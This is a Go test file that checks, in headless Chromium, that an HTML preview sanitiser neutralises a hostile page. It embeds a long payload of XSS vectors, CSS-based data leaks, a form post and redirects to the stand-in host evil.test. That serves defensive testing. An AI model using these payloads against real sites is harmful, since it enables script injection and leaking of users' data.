package preview

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"sheaf/internal/testenv"
)

// hostile does what it can to be noticed: dialogs, requests to evil.test, leading the frame or the whole page away.
const hostile = `<!doctype html><html><head>
<meta http-equiv="refresh" content="1;url=http://evil.test/refresh"><base href="http://evil.test/base/">
<link rel=stylesheet href="http://evil.test/link.css"><link rel=icon href="http://evil.test/icon"><link rel=preload as=image href="http://evil.test/preload">
<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="//evil.test"><link rel=modulepreload href="http://evil.test/m.js">
<style>@import "http://evil.test/import.css"; @\69mport url(http://evil.test/import2.css);
body{background:url(http://evil.test/bg)} h6{background:\75 rl(http://evil.test/escaped)} b{background-image:image-set("http://evil.test/set" 1x)}
i{background-image:-webkit-image-set(url(http://evil.test/webkitset) 1x)} u{--v:"http://evil.test/var";background-image:image-set(var(--v) 1x)}
u::after{content:url(http://evil.test/content)} @font-face{font-family:E;src:url(http://evil.test/font)} em{font-family:E;list-style-image:url(http://evil.test/list)}
s{cursor:url(http://evil.test/cursor),auto;border-image:url(http://evil.test/border) 1;mask-image:url(http://evil.test/mask);filter:url(http://evil.test/filter#a)}
input[value^="s"]{background:url(http://evil.test/leak)} q{background:cross-fade(url(http://evil.test/fade),url(http://evil.test/fade2),50%)}
</style><script>parent.noticed="script";alert("script");setTimeout(()=>{location="http://evil.test/moved"},1500)</script><script src="http://evil.test/s.js"></script></head>
<body onload="parent.noticed='onload';alert('onload')" background="http://evil.test/bodybg">
<img src="x" onerror="parent.noticed='onerror';alert('onerror')"><img src="http://evil.test/img"><img srcset="http://evil.test/srcset 1x">
<svg onload="parent.noticed='svg';alert('svg')"><image href="http://evil.test/svgimage" width=10 height=10 /><use href="http://evil.test/use.svg#a"/>
<script>parent.noticed='svgscript';alert(1)</script><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject><animate onbegin="alert(2)" attributeName=x dur=1s /></svg>
<iframe src="http://evil.test/frame"></iframe><iframe srcdoc="<script>alert(3)</script>"></iframe><object data="http://evil.test/object"></object><embed src="http://evil.test/embed">
<video poster="http://evil.test/poster" src="http://evil.test/video" autoplay></video><audio src="http://evil.test/audio" autoplay></audio><picture><source srcset="http://evil.test/source"><img></picture>
<form id=f action="http://evil.test/form" method=post><input name=submit value=secret autofocus onfocus="this.onfocus=null;alert(4)"><button formaction="javascript:alert(5)">go</button></form>
<a id=a href="javascript:parent.noticed='link';alert(6)" target=_top ping="http://evil.test/ping">a link</a><a id=b href="http://evil.test/away" target=_top>away</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;"></table></math>
<noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript><template><img src=x onerror=alert(9)></template>
<p style="background:url('http://evil.test/inline')">p</p><h6>h</h6><b>b</b><i>i</i><u>u</u><em>em</em><s>s</s><q>q</q><x-y style='background:\75\72\6c(http://evil.test/inline2)'>x</x-y>
<details ontoggle="alert(10)" open>d</details><marquee onstart="alert(11)">m</marquee><body onpageshow="alert(12)">
</body></html>`

// seen is what a browser was made to do.
type seen struct {
	mu       sync.Mutex
	dialogs  []string
	requests []string // that are not to the test's own host
	moves    []string // of frames
}

func (s *seen) get() (dialogs, requests, moves []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string{}, s.dialogs...), append([]string{}, s.requests...), append([]string{}, s.moves...)
}

// watch starts a Chromium for which every name leads to the test's server, and hears of all that it does.
func watch(t *testing.T, srv *httptest.Server) (context.Context, *seen) {
	t.Helper()
	own, err := url.Parse(srv.URL)
	require.NoError(t, err)
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(testenv.Chromium(t)), chromedp.UserDataDir(t.TempDir()),
		chromedp.Flag("host-resolver-rules", "MAP * "+own.Host), chromedp.WindowSize(1200, 900))
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	t.Cleanup(cancel)
	ctx, cancelAllocator := chromedp.NewExecAllocator(ctx, options...)
	t.Cleanup(cancelAllocator)
	ctx, cancelTab := chromedp.NewContext(ctx)
	t.Cleanup(cancelTab)
	s := &seen{}
	require.NoError(t, chromedp.Listen(ctx, func(event any) {
		s.mu.Lock()
		defer s.mu.Unlock()
		switch e := event.(type) {
		case *page.EventJavascriptDialogOpening:
			s.dialogs = append(s.dialogs, e.Message)
			go func() {
				_, _ = cdp.Call(ctx, chromedp.FromContext(ctx).Target, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
			}()
		case *network.EventRequestWillBeSent:
			if !strings.HasPrefix(e.Request.URL, srv.URL+"/") && !strings.HasPrefix(e.Request.URL, "data:") {
				s.requests = append(s.requests, e.Request.URL)
			}
		case *page.EventFrameNavigated:
			s.moves = append(s.moves, e.Frame.URL)
		}
	}))
	require.NoError(t, chromedp.Do(ctx, chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		_, err := cdp.Call(ctx, target, network.Enable, network.EnableParams{})
		return err
	})))
	return ctx, s
}

// serve shows a page in frames: raw, as a snapshot without the other walls, and as the web UI shows it.
func serve(t *testing.T, raw string) (*httptest.Server, *[]string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(raw))
	require.NoError(t, err)
	shown := Make(root, mustParse("http://evil.test/page"), Options{Asset: func(kind Kind, address string) string {
		return "/assets/" + url.PathEscape(address)
	}})
	var mu sync.Mutex
	var foreign []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.Host, "evil.test") {
			mu.Lock()
			foreign = append(foreign, r.URL.Path)
			mu.Unlock()
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/raw":
			_, _ = w.Write([]byte(raw))
		case "/bare":
			_, _ = w.Write(shown.HTML)
		case "/snapshot":
			w.Header().Set("Content-Security-Policy", Policy)
			_, _ = w.Write(shown.HTML)
		case "/in/raw", "/in/bare":
			fmt.Fprintf(w, `<!doctype html><iframe id=frame src="%s" width=1000 height=800></iframe>`, strings.TrimPrefix(r.URL.Path, "/in"))
		case "/in/snapshot":
			fmt.Fprint(w, `<!doctype html><iframe id=frame sandbox="allow-same-origin" src="/snapshot" width=1000 height=800></iframe>`)
		default:
			w.Header().Set("Content-Type", "image/png")
		}
	}))
	t.Cleanup(srv.Close)
	return srv, &foreign
}

// act clicks and submits whatever the frame holds.
const act = `(() => { const d = document.getElementById("frame").contentDocument;
	for (const e of d.querySelectorAll("a,button,input,[data-n]")) { try { e.click() } catch (e) {} }
	for (const f of d.forms) { try { HTMLFormElement.prototype.submit.call(f) } catch (e) {} }
	return d.querySelectorAll("[data-n]").length })()`

func TestHostilePageOnlyShows(t *testing.T) {
	testenv.Chromium(t)
	for _, way := range []string{"bare", "snapshot"} {
		t.Run(way, func(t *testing.T) {
			srv, foreign := serve(t, hostile)
			ctx, s := watch(t, srv)
			require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/in/"+way)))
			numbered, err := chromedp.Run(ctx, chromedp.Evaluate[int](act))
			require.NoError(t, err)
			require.Greater(t, numbered, 25)
			require.NoError(t, chromedp.Do(ctx, chromedp.Sleep(2*time.Second)))
			dialogs, requests, moves := s.get()
			require.Empty(t, dialogs)
			require.Empty(t, requests)
			require.Empty(t, *foreign)
			require.Subset(t, []string{"about:blank", srv.URL + "/in/" + way, srv.URL + "/" + way}, moves)
			noticed, err := chromedp.Run(ctx, chromedp.Evaluate[string](`String(window.noticed) + document.getElementById("frame").contentWindow.location.pathname`))
			require.NoError(t, err)
			require.Equal(t, "undefined/"+way, noticed)
		})
	}
}

// The same page as it is does all that the test listens for: else the test above would hear nothing whatever happened.
func TestHostilePageIsHeard(t *testing.T) {
	testenv.Chromium(t)
	srv, _ := serve(t, hostile)
	ctx, s := watch(t, srv)
	go func() { // it may never have loaded
		_, _ = cdp.Call(ctx, chromedp.FromContext(ctx).Target, page.Navigate, page.NavigateParams{URL: srv.URL + "/in/raw"})
	}()
	var missing []string
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		dialogs, requests, moves := s.get()
		missing = nil
		for _, want := range []string{"img", "srcset", "link.css", "import.css", "import2.css", "bg", "escaped", "set", "webkitset", "var", "inline", "inline2", "font", "frame", "poster"} {
			if !slices.Contains(requests, "http://evil.test/"+want) {
				missing = append(missing, want)
			}
		}
		if len(dialogs) < 2 {
			missing = append(missing, "dialogs")
		}
		// The script's move and the header's race: whichever comes first ends the page that holds the other.
		if !slices.ContainsFunc(append(moves, requests...), func(at string) bool {
			return strings.HasPrefix(at, "http://evil.test/moved") || strings.HasPrefix(at, "http://evil.test/refresh")
		}) {
			missing = append(missing, "a move away")
		}
		if len(missing) == 0 {
			return
		}
	}
	require.Empty(t, missing)
}

// A click's place leads to an element's number in pages that are very deep or very long.
func TestHugeAndDeepPage(t *testing.T) {
	testenv.Chromium(t)
	var raw strings.Builder
	raw.WriteString("<!doctype html><body style='margin:0'>" + strings.Repeat("<div>", 480) + "<b id=deep>deep</b>" + strings.Repeat("</div>", 480))
	for i := range 60_000 {
		fmt.Fprintf(&raw, "<p>%d</p>", i)
	}
	srv, _ := serve(t, raw.String())
	ctx, _ := watch(t, srv)
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/in/snapshot")))
	got, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`(() => { const d = document.getElementById("frame").contentDocument;
		return [d.querySelectorAll("p[data-n]").length + "", d.elementFromPoint(5, 5).closest("[data-n]").getAttribute("data-n"), d.body.textContent.slice(0, 4)] })()`))
	require.NoError(t, err)
	require.Equal(t, "60000", got[0])
	require.Equal(t, "deep", got[2])
	require.NotEmpty(t, got[1])
}
